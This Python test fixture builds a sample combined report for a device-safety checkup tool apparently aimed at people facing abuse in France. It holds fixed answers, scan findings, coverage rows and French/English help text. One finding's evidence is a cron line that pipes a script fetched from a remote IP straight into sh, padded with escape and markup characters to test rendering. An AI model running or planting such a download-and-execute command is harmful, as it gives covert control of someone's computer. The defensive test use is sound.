"""One combined report (a checkup with the computer inspection it offered), built from fixed
data: the mini checklists, fixed answers, hand-made scan findings and coverage rows, a fixed
clock and version. The golden files, the round trip and the browser test all render it."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

from safecheck.checkup.checklist.model import ChecklistSet
from safecheck.checkup.checklist.runner import AnswerRecord
from safecheck.checkup.run import build_report
from safecheck.core.i18n import Translator
from safecheck.core.model import (
    Answer,
    Confidence,
    Coverage,
    CoverageStatus,
    Evidence,
    Finding,
    Severity,
)
from safecheck.report.model import Report

VERSION = "9.9.9"
HOST: dict[str, str | bool | int] = {
    "platform": "linux",
    "root": "/",
    "live": True,
    "entries": 412,
    "os": "Debian GNU/Linux 12 (bookworm)",
    "os_version": "12",
    "model": "LENOVO ThinkPad X1 Carbon Gen 9 (20XWCTO1WW)",
}
HELP = {
    "en": (
        "Help and emergency contacts — France\n\n"
        "17  Police\n"
        "    In an emergency, day and night.\n\n"
        "3919  Violences Femmes Info\n"
        "    Free and anonymous listening line, 24 h a day, 7 days a week.\n"
    ),
    "fr": (
        "Aide et urgences — France\n\n"
        "17  Police\n"
        "    En cas d'urgence, jour et nuit.\n\n"
        "3919  Violences Femmes Info\n"
        "    Écoute gratuite et anonyme, 24 h/24 et 7 j/7 ; « masque 19 » en pharmacie…\n"
    ),
}


def clock() -> datetime:
    return datetime(2026, 11, 27, 10, 30, tzinfo=UTC)


def answers() -> dict[str, AnswerRecord]:
    def rec(item: str, checklist: str, answer: Answer, note: str | None = None) -> AnswerRecord:
        return AnswerRecord(item, checklist, answer, note)

    return {
        "s-android": rec("s-android", "situation", Answer.YES),
        "s-passwords": rec("s-passwords", "situation", Answer.UNSURE),
        "acct-forwarding": rec("acct-forwarding", "accounts", Answer.YES, "seen 3 Nov <b>*x*</b>"),
        "phone-unknown-app": rec("phone-unknown-app", "phone", Answer.CANT_FIND),
        "phone-unknown-app-name": rec("phone-unknown-app-name", "phone", Answer.SKIP),
        "phone-protect": rec("phone-protect", "phone", Answer.NO),
    }


def scan_findings(lang: str) -> tuple[Finding, ...]:
    fr = lang == "fr"
    return (
        Finding(
            id="SC-LNX-DOWNLOAD-EXEC",
            title=(
                "Une tâche planifiée télécharge et lance un programme"
                if fr
                else "A scheduled task downloads and runs a program"
            ),
            severity=Severity.HIGH,
            confidence=Confidence.HIGH,
            source="linux.cron",
            category="suspicious-startup",
            explanation=(
                "Elle peut installer n'importe quoi, à tout moment, sans que vous le voyiez."
                if fr
                else "It can install anything at any time, without you seeing it."
            ),
            steps=(
                "Photographiez l'écran avant tout changement."
                if fr
                else "Take a photo of the screen before changing anything.",
                "Parlez-en à une association avant de la supprimer."
                if fr
                else "Talk to an advocate before removing it.",
            ),
            safety_note=(
                "La supprimer peut alerter la personne qui l'a mise en place."
                if fr
                else "Removing it can alert the person who set it up."
            ),
            evidence=(
                Evidence(
                    path="/etc/cron.d/update",
                    line=1,
                    command="curl -s https://203.0.113.5/x.sh | sh  # \x1b[31m`*_[x](y)`<i>",
                    user="root",
                    modified="2026-11-20T21:04:11+00:00",
                ),
                Evidence(
                    path="/home/ana/.local/share/a-very-long-folder-name/that-goes-on-and-on/"
                    "and-on/without-any-break-at-all/update.sh",
                    sha256="e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                ),
            ),
            references=("Echap, https://example.org/echap",),
        ),
        Finding(
            id="SC-TOOL-REMOTE-ACCESS",
            title=(
                "Un outil d'accès à distance est lancé : AnyDesk"
                if fr
                else "A remote-access tool is running: AnyDesk"
            ),
            severity=Severity.MEDIUM,
            confidence=Confidence.LOW,
            source="common.processes",
            category="remote-access",
            explanation=(
                "Il permet de voir et d'utiliser cet ordinateur à distance."
                if fr
                else "It lets someone see and use this computer from elsewhere."
            ),
            steps=(
                "Demandez-vous si vous ou une personne de confiance l'avez installé."
                if fr
                else "Ask yourself whether you or someone you trust installed it.",
            ),
            safety_note=(
                "Le fermer peut se voir de l'autre côté."
                if fr
                else "Closing it can be seen on the other side."
            ),
            evidence=(
                Evidence(
                    path="/usr/bin/anydesk",
                    process="anydesk",
                    pid=4242,
                    user="ana",
                    port=7070,
                    note="198.51.100.7:443",
                ),
            ),
            references=("AnyDesk, https://anydesk.com/",),
        ),
    )


def scan_coverage(lang: str) -> tuple[Coverage, ...]:
    fr = lang == "fr"
    return (
        Coverage(
            "linux.cron",
            CoverageStatus.OK,
            "12 lus, 3 éléments trouvés." if fr else "12 read, 3 entries found.",
        ),
        Coverage(
            "linux.accounts",
            CoverageStatus.NEEDS_ADMIN,
            "Demande les droits d'administrateur." if fr else "Needs administrator rights.",
            ("/etc/shadow: permission", "/root/.ssh/authorized_keys: permission"),
        ),
        Coverage(
            "common.processes",
            CoverageStatus.PARTIAL,
            "210 lus ; 4 illisibles." if fr else "210 read; 4 could not be read.",
        ),
        Coverage(
            "macos.launchd",
            CoverageStatus.NOT_APPLICABLE,
            "Sans objet : pas pour linux." if fr else "Not applicable: not for linux.",
        ),
    )


def combined_report(mini: ChecklistSet, lang: str = "en") -> Report:
    """The checkup of the mini checklists in advocate mode, with an inspection merged in."""
    t = Translator(lang)
    report = build_report(mini, answers(), t, "FR", advocate=True, clock=clock)
    findings = sorted(report.findings + scan_findings(lang), key=lambda f: f.severity, reverse=True)
    versions = dict(report.metadata.data_versions) | {"catalog": "2026.11", "rules": "2026.11"}
    metadata = replace(report.metadata, version=VERSION, host=dict(HOST), data_versions=versions)
    return replace(
        report,
        metadata=metadata,
        findings=tuple(findings),
        coverage=report.coverage + scan_coverage(lang),
    )
